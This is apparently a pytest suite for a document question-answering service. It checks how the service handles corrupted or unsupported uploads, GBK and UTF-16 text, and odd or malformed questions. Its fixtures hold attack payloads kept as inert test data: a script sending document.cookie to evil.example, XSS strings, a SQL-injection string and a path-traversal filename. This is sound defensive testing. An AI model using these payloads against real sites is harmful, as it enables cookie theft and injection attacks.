"""Bad input, each with a test: over HTTP upload, over `assistant ingest`, and in questions.

Every refused file gets a clear 4xx (HTTP) or a CLI error naming the file and the problem, and
the served index is unchanged afterwards: same version, same corpus files, nothing left in the
staging folder. Files in awkward but valid encodings (GBK, UTF-16) are accepted and decoded
correctly; HTML and script in a document or a question stay inert data.
"""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from urllib.parse import quote

import pypdf
import pytest
from fastapi.testclient import TestClient

from assistant import cli
from assistant.api import create_app
from assistant.config import MAX_QUESTION_CHARS, Settings
from assistant.embedding import FakeEmbedder
from assistant.index import load_index
from assistant.service import Assistant
from tests.support.corpus import DATA, OPERATOR_KEY

KEY = OPERATOR_KEY
AUTH = {"Authorization": f"Bearer {KEY}"}
EN_PDF = DATA / "docs" / "en-guidance.pdf"
FIFTY_MB = 50 * 1024 * 1024

GBK_TEXT = "示例附录\n\n1 熊猫接待\n\n接待大熊猫参观团时，呼叫中心应安排专人引导并保持安静。\n\n2 竹子供应\n\n竹子供应商的联系方式应每季度核对一次。\n"
UTF16_TEXT = "Annex\n\n1 Lighthouse keepers\n\nCalls from lighthouse keepers are answered within two rings.\n\n2 Foghorns\n\nFoghorn noise complaints go to the facilities team.\n"


def _pdf_bytes(writer: pypdf.PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _encrypted_pdf() -> bytes:
    writer = pypdf.PdfWriter()
    writer.append(io.BytesIO(EN_PDF.read_bytes()))
    writer.encrypt(user_password="secret", owner_password="owner")
    return _pdf_bytes(writer)


def _scanned_pdf() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_blank_page(width=595, height=842)
    return _pdf_bytes(writer)


def _broken_docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document><unclosed>")
    return buffer.getvalue()


# (file name, content, HTTP status, words the reason must contain)
REFUSED = [
    ("zero-byte.txt", b"", 422, "empty file"),
    ("truncated.pdf", EN_PDF.read_bytes()[: EN_PDF.stat().st_size // 2], 422, "corrupted PDF: truncated"),
    ("corrupted.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 9 0 R >>\nthis is not a pdf body\n%%EOF\n", 422,
     "corrupted PDF"),
    ("not-a-pdf.pdf", b"<html><body>a web page saved as .pdf</body></html>", 422, "corrupted PDF: no %PDF header"),
    ("encrypted.pdf", _encrypted_pdf(), 422, "encrypted PDF"),
    ("scanned.pdf", _scanned_pdf(), 422, "no text layer"),
    ("binary.txt", bytes(range(256)) * 64, 422, "binary content, not text"),
    ("latin1.txt", "café naïve résumé à la carte, déjà vu".encode("cp1252"), 422, "cannot decode text"),
    ("broken.docx", _broken_docx(), 422, "corrupted DOCX"),
    ("zip-named.docx", b"PK\x03\x04 not really a zip", 422, "corrupted DOCX"),
    ("whitespace.md", b"   \n\n\t \n", 422, "no text"),
    ("only-script.html", b"<html><script>alert(1)</script><style>p{}</style></html>", 422, "no text"),
    ("program.exe", b"MZ\x90\x00" + b"\x00" * 100, 415, "unsupported file type"),
]


@pytest.fixture
def settings(operator_settings: Settings) -> Settings:
    return operator_settings


@pytest.fixture
def client(settings):
    assistant = Assistant(settings, embedder=FakeEmbedder())
    assert assistant.open() == "loaded"
    with TestClient(create_app(settings, assistant)) as client:
        yield client


def snapshot(client, settings: Settings) -> tuple:
    status = client.get("/api/index/status", headers=AUTH).json()
    staging = settings.corpus_dir / ".staging"
    leftovers = sorted(str(p) for p in staging.rglob("*")) if staging.exists() else []
    return (status["version"], status["corpus"], client.get("/api/documents").json(),
            load_index(settings.index_dir).version, leftovers)


def wait_job(client, job_id: str) -> dict:
    client.app.state.document_manager.wait_idle(30)
    return next(j for j in client.get("/api/index/status", headers=AUTH).json()["jobs"] if j["id"] == job_id)


# -- files over HTTP -------------------------------------------------------------------------------

def test_every_bad_file_gets_a_clear_4xx_and_the_index_is_unchanged(client, settings):
    before = snapshot(client, settings)
    for name, content, status, reason in REFUSED:
        response = client.post("/api/documents", headers=AUTH, files={"file": (name, content)})
        assert response.status_code == status, (name, response.text)
        detail = response.json()["detail"]
        assert reason in detail, (name, detail)
        if status == 422:
            assert detail.startswith(name + ":"), detail  # names the file
    assert snapshot(client, settings) == before
    assert client.app.state.document_manager.jobs() == []


def test_a_50_mb_file_is_413_before_it_is_read(client, settings, tmp_path):
    before = snapshot(client, settings)
    huge = tmp_path / "huge.txt"
    with open(huge, "wb") as handle:  # sparse: 50 MB without writing them
        handle.truncate(FIFTY_MB)
    with open(huge, "rb") as handle:
        response = client.post("/api/documents", headers=AUTH, files={"file": ("huge.txt", handle)})
    assert response.status_code == 413
    detail = response.json()["detail"]
    assert detail.startswith("upload too large") and f"at most {settings.max_upload_bytes} bytes" in detail
    assert snapshot(client, settings) == before


def test_gbk_and_utf16_text_are_decoded(client, settings):
    uploads = [
        ("panda-annex.txt", GBK_TEXT.encode("gbk"), "熊猫", "接待大熊猫参观团时"),
        ("lighthouse-annex.txt", UTF16_TEXT.encode("utf-16"), "lighthouse keepers", "answered within two rings"),
        ("foghorn-le.txt", UTF16_TEXT.replace("lighthouse", "beacon").encode("utf-16-le"), "beacon keepers",
         "Calls from beacon keepers"),  # no byte-order mark
    ]
    for name, data, question, expected in uploads:
        response = client.post("/api/documents", headers=AUTH, files={"file": (name, data)})
        assert response.status_code == 202, response.text
        assert wait_job(client, response.json()["job"]["id"])["state"] == "succeeded"
        document = name.removesuffix(".txt")
        clause = client.get(f"/api/clauses/{document}:1").json()
        assert expected in clause["text"] and "\ufffd" not in clause["text"], clause
        hits = client.get("/api/search", params={"q": question, "document": document}).json()["hits"]
        assert hits[0]["id"] == f"{document}:1"
    assert {"panda-annex", "lighthouse-annex", "foghorn-le"} <= {d["id"] for d in client.get("/api/documents").json()}


def test_html_and_script_in_a_document_stay_inert(client, settings):
    page = (
        "<html><head><title>Annex <script>alert('t')</script></title>"
        "<script>fetch('https://evil.example/'+document.cookie)</script><style>body{display:none}</style></head>"
        "<body><h2>1 Gifts</h2><p onclick=\"alert(2)\">Staff must decline gifts worth more than 50 yuan."
        "<img src=x onerror=alert(3)> <a href=\"javascript:alert(4)\">details</a></p>"
        "<h2>2 Visitors</h2><p>Visitors sign the register &lt;script&gt;alert(5)&lt;/script&gt; at reception.</p>"
        "</body></html>"
    )
    markdown = "# Script annex\n\n## 1 Hostile text\n\nThis clause quotes <script>alert(6)</script> and <img src=x onerror=alert(7)> verbatim.\n"
    for name, data in (("gifts.html", page.encode()), ("script-annex.md", markdown.encode())):
        response = client.post("/api/documents", headers=AUTH, files={"file": (name, data)})
        assert response.status_code == 202, response.text
        assert wait_job(client, response.json()["job"]["id"])["state"] == "succeeded"

    gifts = client.get("/api/documents/gifts/clauses").json()["clauses"]
    text = " ".join(c["text"] for c in gifts)
    assert "decline gifts" in text and "evil.example" not in text and "alert(1)" not in text
    assert "display:none" not in text

    # the viewer escapes what the documents say; no markup from a document reaches the page
    for document in ("gifts", "script-annex"):
        html = client.get(f"/documents/{document}").text
        assert "<script>alert" not in html and "<img src=x" not in html and "onerror=alert" not in html.replace(
            "onerror=alert(7)&gt;", "")
    assert "&lt;script&gt;alert(6)&lt;/script&gt;" in client.get("/documents/script-annex").text
    clause = client.get("/api/clauses/script-annex:1")
    assert clause.headers["content-type"].startswith("application/json")
    assert "<script>alert(6)</script>" in clause.json()["text"]  # as data, in JSON


def test_refused_upload_names_are_what_the_client_sent_not_a_path(client, settings):
    response = client.post("/api/documents", headers=AUTH, files={"file": ("../../../etc/empty.txt", b"")})
    assert response.status_code == 422 and response.json()["detail"] == "empty.txt: empty file"


# -- files over the CLI ----------------------------------------------------------------------------

def _ingest(capsys, settings: Settings, *paths: Path) -> tuple[int, str, str]:
    code = cli.main(["--corpus", str(settings.corpus_dir), "--index", str(settings.index_dir),
                     "--embedder", "fake", "ingest", "--quiet", *map(str, paths)])
    out, err = capsys.readouterr()
    return code, out, err


def test_cli_ingest_names_each_bad_file_and_leaves_the_index_alone(settings, tmp_path, capsys):
    version = load_index(settings.index_dir).version
    corpus = sorted(p.name for p in settings.corpus_dir.iterdir())
    folder = tmp_path / "incoming"
    folder.mkdir()
    huge = folder / "huge.txt"
    with open(huge, "wb") as handle:
        handle.truncate(FIFTY_MB)
    cases = [(folder / name, content, reason) for name, content, _, reason in REFUSED]
    cases.append((huge, None, "file too large"))
    for path, content, reason in cases:
        if content is not None:
            path.write_bytes(content)
        code, out, err = _ingest(capsys, settings, path)
        assert code == 1, (path.name, out, err)
        assert f"skipped {path}: " in err and reason in err, (path.name, err)
        assert "the index is unchanged" in err
        assert load_index(settings.index_dir).version == version
        assert sorted(p.name for p in settings.corpus_dir.iterdir()) == corpus


def test_cli_ingest_accepts_gbk_and_utf16(settings, tmp_path, capsys):
    gbk = tmp_path / "panda-annex.txt"
    gbk.write_bytes(GBK_TEXT.encode("gbk"))
    utf16 = tmp_path / "lighthouse-annex.txt"
    utf16.write_bytes(UTF16_TEXT.encode("utf-16"))
    code, out, err = _ingest(capsys, settings, gbk, utf16)
    assert code == 0, err
    assert "indexed 5 documents" in out
    code = cli.main(["--corpus", str(settings.corpus_dir), "--index", str(settings.index_dir), "--embedder", "fake",
                     "ask", "熊猫参观团", "--json", "--document", "panda-annex"])
    answer = json.loads(capsys.readouterr().out)
    assert code == 0 and "接待大熊猫参观团时" in answer["citations"][0]["text"]


# -- questions -------------------------------------------------------------------------------------

def test_a_1_mb_question_is_refused(client, settings):
    before = snapshot(client, settings)
    body = client.post("/api/ask", json={"question": "数据安全" * 250_000})
    assert body.status_code == 413 and "too large" in body.json()["detail"]
    # (a 1 MB URL never reaches the app: see test_security.py::test_question_limits_on_a_real_socket)
    url = client.get("/api/search", params={"q": "x" * 60_000})
    assert url.status_code == 414
    over_limit = client.post("/api/ask", json={"question": "x" * (settings.max_question_chars + 1)})
    assert over_limit.status_code == 400 and "too long" in over_limit.json()["detail"]
    assert snapshot(client, settings) == before


@pytest.mark.parametrize(
    "question",
    [
        "\x00\x01\x02第4.5条\x07\x1b[31m",  # NUL, control characters, an ANSI escape
        "第4.5条\r\n\t\x0b\x0c",
        "🤖📞 What does clause 4.5 say? 🔒🙂",  # emoji, including astral-plane ones
        "ما هو أمن البيانات في مركز الاتصال؟",  # right-to-left (Arabic)
        "\u202eدائرة\u202c clause 4.5 \u200f\u200e\u2066x\u2069",  # bidi overrides and isolates
        "שאלה על אבטחת מידע 4.5",  # Hebrew
        "<script>alert(document.cookie)</script> 第4.5条",
        "<img src=x onerror=alert(1)>\"'><svg/onload=alert(2)>",
        "'; DROP TABLE clauses; --",
        "{{7*7}} ${7*7} %s %n",
        "\ud800 lone surrogate \udfff 4.5",
        "e\u0301\u0301\u0301\u0301 Z\u0351\u0352\u0353\u0354a\u0355\u0356lgo",  # combining marks
        "\ufeff\u200b\u200b 4.5 \u2028\u2029",
        "数" * MAX_QUESTION_CHARS,  # exactly the limit
    ],
)
def test_odd_questions_get_an_answer_not_an_error(client, question):
    # JSON with \u escapes carries even lone surrogates; the URL carries the raw UTF-8 bytes.
    # (A GET URL holds about 1,500 CJK characters at most: longer questions go by POST.)
    body = json.dumps({"question": question}, ensure_ascii=True)
    query = "q=" + quote(question[:1500].encode("utf-8", "surrogatepass"))
    for response in (
        client.post("/api/ask", content=body, headers={"Content-Type": "application/json"}),
        client.get("/api/search?" + query),
    ):
        assert response.status_code == 200, (question, response.text)
        assert response.headers["content-type"].startswith("application/json")
    answer = client.post("/api/ask", content=body, headers={"Content-Type": "application/json"}).json()
    assert not any(ord(ch) < 0x20 for ch in answer["question"])
    assert answer["abstained"] or answer["citations"]


@pytest.mark.parametrize(
    "body, status",
    [
        (b"\xff\xfe\x00garbage", 422),
        (b'{"question": "\xff\xfe invalid utf-8"}', 400),
        (b"[" * 30_000 + b"]" * 30_000, 400),  # deeply nested JSON
        (b'{"question": ' + b"[" * 30_000 + b"]" * 30_000 + b"}", 400),
        (b'{"question": "ok", "k": 1e400}', 422),
        (b'{"question": null}', 422),
        (b'"just a string"', 422),
        (b"", 422),
        (b'{"question": "\\u0000"}', 400),  # only a NUL: empty once cleaned
        (b'{"question": "\\u200b \\u202e \\u0007"}', 400),
    ],
)
def test_malformed_bodies_get_a_4xx(client, body, status):
    response = client.post("/api/ask", content=body, headers={"Content-Type": "application/json"})
    assert response.status_code == status, response.text
    assert response.json()["detail"]
